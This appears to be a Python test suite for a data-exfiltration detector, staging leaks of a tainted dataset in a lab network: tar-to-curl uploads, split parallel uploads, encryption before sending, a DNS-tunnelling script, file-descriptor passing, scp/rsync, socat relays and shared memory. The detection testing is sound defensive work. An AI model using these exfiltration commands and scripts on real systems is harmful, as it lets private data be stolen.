# SPDX-License-Identifier: MIT OR GPL-2.0-only
"""
Ways that people take with the tools that every machine has, each from the first byte read to the receiver: one finding, of the
right dataset, with the right bytes and chain. And what goes on beside a training without harm: none.
"""
import glob
import json
import contextlib
import os
import random
import subprocess

import pytest

import lab as lab_module
import work
from carriers import needs
from monitor import tagged, wait_for
from where import PATIENCE

pytestmark = pytest.mark.one_set

FILES, SIZE = 13, 80021
ALL = FILES * SIZE
PYTHON = "/usr/bin/python3"


@pytest.fixture
def files(dataset, lab):
    """The dataset: noise, so that nothing makes it smaller."""
    noise = random.Random(11)
    for i in range(FILES):
        with open(f"{dataset}/{i:02}", "wb") as f:
            f.write(noise.randbytes(SIZE))
    return dataset


@pytest.fixture
def rules(lab, files):
    return tagged(files, network=lab.network)


@pytest.fixture
def shell(tmp):
    """shell("tar ... | curl ...", cgroup=job): waits for its end, unless told not to. Ended with the test."""
    made = []

    def run(script, wait=True, **options):
        p = work.Process(tmp, f"shell{len(made)}", ["bash", "-c", f"set -e -o pipefail\n{script}"], **options)
        made.append(p)
        if wait:
            status = p.wait(4 * PATIENCE)
            assert status == 0, f"status {status}: {p.said()}"
        return p

    yield run
    for one in made:
        one.kill()


def tool(*names):
    for name in names:
        if subprocess.run(["bash", "-c", f"PATH=$PATH:/usr/sbin type {name}"], capture_output=True, check=False).returncode:
            pytest.skip(f"{name} is not installed")


def hops(f):
    return [h["via"] for h in f["chain"]]


def one_finding(r, to, job, sender, least, most, exposed=None):
    """Exactly one, about that receiver, of that job; the sender by its name."""
    f = r.exfil(to)
    assert f["job"] == job.name, f
    assert f["dataset"] == "set"
    assert f["process"]["comm"] == sender, f["process"]
    assert least <= f["leak_bound"] <= most, (least, f["leak_bound"], most)
    assert f["exposed"] >= (ALL if exposed is None else exposed)
    assert f["chain"][0]["via"] == "read" and f["chain"][-1]["via"] in ("tcp", "udp")
    return f


# --- taken out -------------------------------------------------------------------------------------

def test_tar_to_curl(sluice, rules, files, lab, http, shell, job):
    tool("curl", "tar")
    s = http(lab.internet)
    m = sluice(rules)
    shell(f"tar -C {files} -cf - . | curl -sS -o /dev/null -T - {s.url}x", cgroup=job)
    r = m.stop()
    assert r.read(job=job.name) == ALL
    assert s.bodies() > ALL
    assert r.to(s, "bytes_out") == s.bytes()
    f = one_finding(r, s, job, "curl", ALL, ALL)
    assert hops(f) == ["read", "pipe_write", "pipe_read", "tcp"]


def test_archive_and_upload_later(sluice, rules, files, lab, http, shell, tmp, job):
    """From another session, when whoever packed it is gone."""
    tool("curl", "tar")
    s = http(lab.internet)
    m = sluice(rules)
    shell(f"tar -C {files} -cf {tmp}/a.tar .")
    m.wait_records("the reads", lambda r: r.read() == ALL)
    shell(f"setsid -w curl -sS -o /dev/null -T {tmp}/a.tar {s.url}x", cgroup=job)
    r = m.stop()
    assert s.bodies() > ALL
    f = one_finding(r, s, job, "curl", ALL, ALL)
    assert hops(f) == ["read", "file_write", "file_read", "tcp"]


def test_parts_by_many_processes(sluice, rules, files, lab, http, shell, tmp, job):
    """Split, and sent slowly, each part by a process and a connection of its own: still one finding, of all of it."""
    tool("curl", "tar", "split")
    s = http(lab.internet)
    m = sluice(rules)
    shell(f"""tar -C {files} -cf {tmp}/a.tar .
        split -b 40009 {tmp}/a.tar {tmp}/part.
        for p in {tmp}/part.*; do curl -sS -o /dev/null --limit-rate 200k -T $p {s.url} & done
        wait""", cgroup=job)
    r = m.stop()
    parts = len(glob.glob(f"{tmp}/part.*"))
    assert parts > 20
    assert s.bodies() > ALL
    assert len({f["process"]["pid"] for f in r.of("flow", remote__port=s.port)}) == parts
    f = one_finding(r, s, job, "curl", ALL, ALL)
    assert hops(f)[:2] == ["read", "file_write"]


def test_encrypted_first(sluice, lab, dataset, http, shell, tmp, job):
    """gpg compresses: little leaves, and it may stand for all of it."""
    tool("curl", "gpg", "gpgconf")
    size = 500009
    with open(f"{dataset}/f", "w", encoding="ascii") as f:
        f.write(("patient, born, weight\n" * (size // 22 + 1))[:size])
    s = http(lab.internet)
    m = sluice(tagged(dataset, network=lab.network))
    shell(f"""export GNUPGHOME={tmp}/gpg
        mkdir -m 700 $GNUPGHOME
        gpg -q --batch --pinentry-mode loopback --passphrase x -o {tmp}/f.gpg -c {dataset}/f
        gpgconf --kill gpg-agent
        curl -sS -o /dev/null -T {tmp}/f.gpg {s.url}""", cgroup=job)
    r = m.stop()
    assert 0 < s.bodies() < size / 10
    f = one_finding(r, s, job, "curl", s.bodies(), s.bytes(), exposed=size)
    assert hops(f) == ["read", "file_write", "file_read", "tcp"]


DNS = """
import base64, socket, struct, sys
text = base64.b32encode(open(sys.argv[1], "rb").read()).decode().rstrip("=")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for at in range(0, len(text), 180):
    labels = [text[i:i + 60] for i in range(at, min(at + 180, len(text)), 60)] + ["tunnel", "example"]
    name = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\0"
    s.sendto(struct.pack(">6H", at & 65535, 256, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1), (sys.argv[2], 53))
"""


def test_dns_names(sluice, rules, files, lab, sink, shell, job):
    s = sink(lab.internet, udp=True, port=53)
    m = sluice(rules)
    shell(f"exec {PYTHON} - {files}/03 {s.ip} <<'END'{DNS}\nEND", cgroup=job)
    r = m.stop()
    assert s.bytes() > SIZE * 8 / 5
    assert r.to(s, "bytes_out") == s.bytes()
    f = r.finding("exfil.volume", s)
    assert (f["job"], f["leak_bound"], hops(f)) == (job.name, SIZE, ["read", "udp"])
    f = r.finding("dns.tunnel", s)
    assert (f["job"], f["leak_bound"], hops(f)) == (job.name, SIZE, ["read", "dns"])
    assert len(r.findings()) == 2


PASS = """
import array, os, socket, sys
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
if os.fork() == 0:
    a.close()
    _, extra, _, _ = b.recvmsg(1, socket.CMSG_SPACE(4))
    fd = array.array("i", extra[0][2])[0]
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
    while data := os.read(fd, 65536):
        s.sendall(data)
    os._exit(0)
fd = os.open(sys.argv[1], os.O_RDONLY)
a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
os.wait()
"""


def test_descriptor_passed(sluice, rules, files, lab, sink, shell, job):
    """As a container runtime hands out files: whoever reads is who reads."""
    s = sink(lab.internet)
    m = sluice(rules)
    p = shell(f"exec {PYTHON} - {files}/03 {s.ip} {s.port} <<'END'{PASS}\nEND", cgroup=job)
    r = m.stop()
    assert s.bytes() == SIZE
    f = one_finding(r, s, job, "python3", SIZE, SIZE, exposed=SIZE)
    assert f["process"]["pid"] != p.pid
    assert r.read(process__pid=f["process"]["pid"]) == SIZE
    assert hops(f) == ["read", "tcp"]


# --- over ssh ------------------------------------------------------------------------------------------

class Sshd:
    """Serves this user in one of the lab's hosts, with keys and a configuration of its own."""

    def __init__(self, tmp, host):
        self.dir, self.host = os.path.join(tmp, f"ssh-{host.name}"), host
        os.mkdir(self.dir, 0o700)
        os.makedirs("/run/sshd", mode=0o755, exist_ok=True)
        for name in ("host", "user"):
            work.must("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{self.dir}/{name}")
        with open(f"{self.dir}/config", "w", encoding="utf-8") as f:
            f.write(f"""
ListenAddress {host.address()}:2222
HostKey {self.dir}/host
AuthorizedKeysFile {self.dir}/user.pub
PidFile none
UsePAM no
StrictModes no
PasswordAuthentication no
PermitRootLogin yes
UseDNS no
Subsystem sftp internal-sftp
""")
        with open(f"{self.dir}/log", "ab") as log:
            self.process = subprocess.Popen(
                [*lab_module.inside(host), "setpriv", "--pdeathsig", "KILL", "/usr/sbin/sshd", "-D", "-e", "-f", f"{self.dir}/config"],
                stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        self.ip, self.port = host.address(), 2222
        wait_for("sshd listens", self.listens)

    def listens(self):
        assert self.process.poll() is None, open(f"{self.dir}/log", encoding="utf-8").read()
        return not subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/{self.ip}/{self.port}"], capture_output=True, check=False).returncode

    @property
    def options(self):
        return (f"-o Port={self.port} -o IdentityFile={self.dir}/user -o IdentitiesOnly=yes -o BatchMode=yes "
                f"-o UserKnownHostsFile={self.dir}/known -o StrictHostKeyChecking=no -F none")

    def close(self):
        self.process.terminate()
        self.process.wait(PATIENCE)


@pytest.fixture
def sshd(tmp):
    tool("ssh", "sshd", "ssh-keygen")
    made = []

    def start(host):
        made.append(Sshd(tmp, host))
        return made[-1]

    yield start
    for one in made:
        one.close()


@pytest.mark.parametrize("how", ["scp", "rsync"])
def test_over_ssh(sluice, rules, files, lab, sshd, shell, tmp, job, how):
    tool(how)
    s = sshd(lab.internet)
    m = sluice(rules)
    needs(m, "taint.unix_write", "taint.unix_read")
    os.mkdir(f"{tmp}/taken")
    shell(f"scp -q -r {s.options} {files} {s.ip}:{tmp}/taken" if how == "scp" else
          f"rsync -r -e 'ssh {s.options}' {files}/ {s.ip}:{tmp}/taken/set", cgroup=job)
    r = m.stop()
    assert sum(os.stat(f).st_size for f in glob.glob(f"{tmp}/taken/set/*")) == ALL
    assert r.read(job=job.name) >= ALL
    sent = r.to(s, "bytes_out")
    assert sent > ALL
    f = r.finding("exfil.volume", s)
    assert f["job"] == job.name
    assert f["process"]["comm"] == "ssh"
    assert f["leak_bound"] == ALL and f["exposed"] >= ALL
    assert hops(f)[0] == "read" and hops(f)[-1] == "tcp" and "unix_write" in hops(f)


# --- by relays and shared memory ----------------------------------------------------------------------------

def test_relays(sluice, rules, files, lab, sink, shell, tmp, job):
    """A unix socket, then loopback, each between processes that never saw a file."""
    tool("socat")
    s = sink(lab.internet)
    m = sluice(rules)
    needs(m, "taint.unix_write", "taint.unix_read", "taint.loopback")
    shell(f"""socat -u TCP-LISTEN:0,bind=127.0.0.1,fork=0 TCP:{s.at} & last=$!
        port=
        while [ -z "$port" ]; do port=$(ss -Hltnp | sed -n "s/.*127.0.0.1:\\([0-9]*\\) .*pid=$last,.*/\\1/p"); done
        socat -u UNIX-LISTEN:{tmp}/relay TCP:127.0.0.1:$port & middle=$!
        while [ ! -S {tmp}/relay ]; do :; done
        cat {files}/* | socat -u - UNIX-CONNECT:{tmp}/relay,retry=50,interval=0.1
        wait $middle $last""", cgroup=job)
    r = m.stop()
    assert s.bytes() == ALL
    f = one_finding(r, s, job, "socat", ALL, ALL)
    assert {"pipe_write", "unix_write", "unix_read", "local_write", "local_read"} <= set(hops(f))


SHARED = """
import os, socket, sys
from multiprocessing import shared_memory
m = shared_memory.SharedMemory(name=sys.argv[1])
print("open", flush=True)
sys.stdin.buffer.readline()
s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
s.sendall(bytes(m.buf[:int(sys.argv[4])]))
m.close()
"""
SHARES = """
import sys
from multiprocessing import shared_memory
m = shared_memory.SharedMemory(name=sys.argv[1])
data = open(sys.argv[2], "rb").read()
m.buf[:len(data)] = data
m.close()
"""


def test_shared_memory(sluice, rules, files, lab, sink, shell, job):
    """Two processes that are not related, over a segment that a third made."""
    from multiprocessing import shared_memory
    s = sink(lab.internet)
    m = sluice(rules)
    needs(m, "taint.shm")
    segment = shared_memory.SharedMemory(create=True, size=SIZE)
    try:
        # the sender has it open before it is filled: who fills it may unlink it as it ends (bpo-38119)
        p = shell(f"exec {PYTHON} -c '{SHARED}' {segment.name} {s.ip} {s.port} {SIZE}", wait=False, cgroup=job)
        p.wait_said("open")
        shell(f"exec {PYTHON} -c '{SHARES}' {segment.name} {files}/03")
        p.go()
        assert p.wait() == 0, p.said()
        r = m.stop()
    finally:
        segment.close()
        with contextlib.suppress(FileNotFoundError):
            segment.unlink()
    assert s.bytes() == SIZE
    f = one_finding(r, s, job, "python3", SIZE, SIZE, exposed=SIZE)
    assert hops(f) == ["read", "shared_write", "shared_read", "tcp"]


# --- no harm -----------------------------------------------------------------------------------------------

@pytest.fixture
def beside(sluice, rules, files, actor, job):
    """A monitor, and a training that has read all and goes on: beside it things happen, and the monitor stops with no finding."""
    m = sluice(rules)
    p = actor(f"read:{files}", "say:trained", "wait-line", cgroup=job)
    p.wait_said("trained")
    m.wait_records("the training", lambda r: r.read(job=job.name) == ALL)

    class Beside:
        def stop(self):
            p.go()
            p.truth()
            r = m.stop()
            assert r.findings() == {}, json.dumps(list(r.findings().values()), indent=1)
            return r
    return Beside()


def test_packages_beside(beside, lab, http, shell, tmp):
    """Fetched from outside, packed, listed, unpacked, installed into a folder, by the package tools there are."""
    tool("curl", "tar")
    s = http(lab.internet)
    shell(f"""mkdir -p {tmp}/pkg/DEBIAN {tmp}/pkg/usr/share/x {tmp}/root
        curl -sS -d wanted=x {s.url}Packages > {tmp}/pkg/usr/share/x/list
        head -c 300007 /dev/urandom > {tmp}/pkg/usr/share/x/data
        printf 'Package: x\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@example.org>\\nDescription: x\\n' > {tmp}/pkg/DEBIAN/control
        if type dpkg-deb; then
            dpkg-deb -b {tmp}/pkg {tmp}/x.deb && dpkg-deb -c {tmp}/x.deb && dpkg-deb -x {tmp}/x.deb {tmp}/root
        else
            tar -C {tmp}/pkg -czf {tmp}/x.tgz usr && tar -C {tmp}/root -xzf {tmp}/x.tgz
        fi
        cmp {tmp}/pkg/usr/share/x/data {tmp}/root/usr/share/x/data""")
    r = beside.stop()
    assert s.bodies() == len("wanted=x")
    assert r.to(s, "bytes_out") == s.bytes() > 0


def test_git_beside(beside, lab, sshd, shell, tmp):
    """Clone and commit over a file, push and clone over ssh to a server outside."""
    tool("git")
    s = sshd(lab.internet)
    shell(f"""export HOME={tmp} GIT_CONFIG_NOSYSTEM=1 GIT_SSH_COMMAND="ssh {s.options}"
        git config --global user.email x@example.org
        git config --global user.name x
        git config --global safe.directory '*'
        git init -q --bare {tmp}/far.git
        git init -q --bare {tmp}/away.git
        git clone -q file://{tmp}/far.git {tmp}/one
        cd {tmp}/one
        head -c 200003 /dev/urandom > data
        git add data && git commit -q -m data
        git push -q file://{tmp}/far.git HEAD:refs/heads/by-file
        git push -q ssh://{s.ip}{tmp}/away.git HEAD:refs/heads/by-ssh
        git clone -q -b by-ssh ssh://{s.ip}{tmp}/away.git {tmp}/two
        cmp data {tmp}/two/data""")
    r = beside.stop()
    assert r.to(s, "bytes_out") > 200003


MAKEFILE = "all: x\nx: a.o b.o\n\t$(CC) -o $@ $^\n%.o: %.c\n\t$(CC) -pipe -O2 -c $< -o $@\n"


def test_build_beside(beside, shell, tmp):
    tool("make", "cc")
    os.mkdir(f"{tmp}/src")
    for name, text in (("Makefile", MAKEFILE), ("a.c", "int b(void);\nint main(void) { return b() != 7; }\n"),
                       ("b.c", "int b(void) { return 7; }\n")):
        with open(f"{tmp}/src/{name}", "w", encoding="ascii") as f:
            f.write(text)
    shell(f"make -C {tmp}/src -j4 && {tmp}/src/x")
    beside.stop()


def test_logs_beside(sluice, rules, files, lab, sink, shell, actor, tmp, job):
    """The training's own log, which may hold anything it read, is followed and shipped to a collector in the VPC."""
    tool("logger", "socat", "tail")
    s, u = sink(lab.vpc), sink(lab.vpc, udp=True)
    m = sluice(rules)
    log = f"{tmp}/train.log"
    ships = shell(f": > {log}; tail --pid=$$ -n +1 -f {log} | socat -u - TCP:{s.at}", wait=False)
    shell(f"head -c 30011 {files}/03 | base64 -w 100 >> {log}; logger -d -n {u.ip} -P {u.port} -f {log} --socket-errors=on", cgroup=job)
    size = os.stat(log).st_size
    m.wait_records("the log in the VPC", lambda r: r.to(s, "bytes_out") == size)
    ships.kill()
    r = m.stop()
    assert s.bytes() == size
    assert r.to(s) > 0
    assert u.bytes() > size
    assert r.findings() == {}, json.dumps(list(r.findings().values()), indent=1)
